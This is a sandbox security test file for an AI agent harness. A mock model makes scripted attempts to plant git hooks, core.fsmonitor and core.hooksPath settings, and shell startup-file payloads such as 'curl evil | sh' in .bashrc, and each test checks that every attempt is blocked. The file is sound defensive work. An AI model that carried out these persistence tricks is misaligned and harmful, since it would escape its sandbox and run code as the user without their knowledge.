/**
 * Planting what the user runs later, outside any sandbox. An agent may write its workspace, and a workspace that
 * is a git repository holds `.git/hooks` and `.git/config`: a `pre-commit` hook, a `core.hooksPath`, a
 * `core.fsmonitor` the agent writes there runs as the user at their next `git commit` or `git status` — the
 * sandbox switched off one step later. Likewise `~/.bashrc` where the home is writable. These stay read-only to
 * tools (a read-only bind mount in the tool's own mount namespace), the repository cannot be renamed away and
 * replaced, and the agent can still commit. Real olliesrv, toolsrv and sandbox helper; the mock LLM scripts the
 * calls. As root (the mount namespace) and as another user (`nobody`: a user namespace first).
 */
import { execFileSync, spawnSync } from 'node:child_process';
import { chownSync, existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { TOOLSRV_ENTRY } from '../../src/olliesrv/toolclient/spawn.js';
import { landlockStatus, loadPolicy, sandboxCommand } from '../../src/toolsrv/sandbox/index.js';
import { testHarness } from '../olliesrv/agent-harness.js';
import { results, script, sh } from './scripted-calls.js';

const ready = landlockStatus().abi >= 6 && existsSync(TOOLSRV_ENTRY);
const git = (cwd: string, ...args: string[]): string =>
  execFileSync('git', ['-c', 'user.name=o', '-c', 'user.email=o@x', ...args], { cwd, encoding: 'utf8' });

/** A repository with one commit at `dir/name`. */
function repo(dir: string, name: string): string {
  const at = join(dir, name);
  mkdirSync(at);
  git(at, 'init', '-q');
  git(at, 'commit', '-q', '--allow-empty', '-m', 'init');
  return at;
}

describe.skipIf(!ready)('an agent planting git hooks in its workspace', () => {
  it('cannot write .git/hooks or .git/config, nor swap .git for a copy; it can still commit', async () => {
    const h = await testHarness();
    const ws = repo(h.dir, 'ws');
    const config = readFileSync(join(ws, '.git', 'config'), 'utf8');
    const a = await h.agent({ session: (await h.c.rdwrText('session/new', `cwd=${ws}`)).trim() });
    h.mock.script(
      ...script(
        sh(
          'printf "#!/bin/sh\\necho pwned\\n" > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit && echo wrote',
        ),
        sh('git config core.hooksPath "$PWD/myhooks" && echo wrote'),
        sh('printf "[core]\\n\\tfsmonitor = touch /tmp/pwned\\n" >> .git/config && echo wrote'),
        sh('mv .git .git-old && echo moved'),
        sh('rm -rf .git/hooks; rm -f .git/config; ls .git/hooks | wc -l'),
        sh('cp -r .git /tmp/g && rm -rf .git; test -d .git && echo still-there'),
        // What the agent may still do: work with git.
        sh('echo x > f && git add f && git -c user.name=a -c user.email=a@x commit -qm work && echo committed'),
      ),
    );
    const r = results(await h.turn(a.path, 'plant', 60_000));
    for (const i of [0, 1, 2])
      expect(r[i], r[i]).toMatch(/Read-only file system|could not write config file .*Device or resource busy/);
    expect(r[3]).toMatch(/Device or resource busy/);
    expect(Number(r[4]!.trim().split('\n').at(-1))).toBeGreaterThan(0);
    expect(r[5]).toContain('still-there');
    expect(r[6]).toContain('committed');
    // The owner's git, outside the sandbox: the repository is the same, with the agent's commit and no hook.
    expect(existsSync(join(ws, '.git', 'hooks', 'pre-commit'))).toBe(false);
    expect(readFileSync(join(ws, '.git', 'config'), 'utf8')).toBe(config);
    expect(git(ws, 'log', '--format=%s')).toBe('work\ninit\n');
    expect(git(ws, 'commit', '-q', '--allow-empty', '-m', 'owner')).toBe('');
  }, 90_000);

  it("cannot rewrite a worktree's .git file to name a repository of its own", async () => {
    const h = await testHarness();
    const main = repo(h.dir, 'main');
    const ws = join(h.dir, 'wt');
    git(main, 'worktree', 'add', '-q', ws);
    const pointer = readFileSync(join(ws, '.git'), 'utf8');
    const a = await h.agent({ session: (await h.c.rdwrText('session/new', `cwd=${ws}`)).trim() });
    h.mock.script(
      ...script(
        sh('git init -q --bare "$TMPDIR/evil" && printf "gitdir: $TMPDIR/evil\\n" > .git && echo wrote'),
        sh('rm -f .git && echo removed'),
      ),
    );
    const r = results(await h.turn(a.path, 'plant', 60_000));
    expect(r[0]).toMatch(/Read-only file system/);
    expect(r[1]).toMatch(/Device or resource busy|Read-only file system/);
    expect(readFileSync(join(ws, '.git'), 'utf8')).toBe(pointer);
  }, 90_000);
});

describe.skipIf(landlockStatus().abi < 6)('a home the policy makes writable', () => {
  for (const as of ['root', 'nobody'] as const) {
    it(`keeps its startup files read-only (${as}); the rest of it stays writable`, () => {
      const dir = mkdtempSync(join(tmpdir(), 'ollie-sec-home-'));
      try {
        const home = join(dir, 'home');
        mkdirSync(join(home, '.config', 'autostart'), { recursive: true });
        mkdirSync(join(home, 'notes'));
        writeFileSync(join(home, '.bashrc'), '# mine\n');
        writeFileSync(join(home, '.profile'), '# mine\n');
        if (as === 'nobody') spawnSync('chown', ['-R', 'nobody:nogroup', dir]);
        else chownSync(dir, 0, 0);
        const ctx = {
          configDir: join(dir, 'config'),
          dataDir: join(dir, 'data'),
          cwd: home,
          home,
          runtimeDir: join(dir, 'run'),
          tmpDir: join(dir, 'tmp'),
        };
        // cwd=$HOME: the default policy makes the workspace, here the whole home, writable (but for the denied
        // paths in it, ~/.ssh and Ollie's dirs, which make each of its entries a rule of its own).
        const cmd = sandboxCommand(loadPolicy(ctx), [
          '/bin/sh',
          '-c',
          [
            'cd "$1"',
            'echo "curl evil | sh" >> .bashrc || echo refused-bashrc',
            'echo x > .profile || echo refused-profile',
            'echo "[Desktop Entry]" > .config/autostart/x.desktop || echo refused-autostart',
            'mv .config .config-old || echo refused-rename',
            'echo ok > notes/today.txt && echo wrote-notes',
          ].join('; '),
          'sh',
          home,
        ]);
        if (as === 'nobody') spawnSync('chown', ['-R', 'nobody:nogroup', ctx.tmpDir]);
        const run = spawnSync(
          as === 'nobody' ? 'setpriv' : cmd.file,
          as === 'nobody' ? ['--reuid=nobody', '--regid=nogroup', '--clear-groups', cmd.file, ...cmd.args] : cmd.args,
          { env: cmd.env({ PATH: '/usr/bin:/bin', HOME: home }), encoding: 'utf8' },
        );
        const out = run.stdout + run.stderr;
        for (const w of ['refused-bashrc', 'refused-profile', 'refused-autostart', 'refused-rename', 'wrote-notes'])
          expect(out, out).toContain(w);
        expect(readFileSync(join(home, '.bashrc'), 'utf8')).toBe('# mine\n');
        expect(existsSync(join(home, '.config', 'autostart', 'x.desktop'))).toBe(false);
      } finally {
        rmSync(dir, { recursive: true, force: true });
      }
    });
  }
});
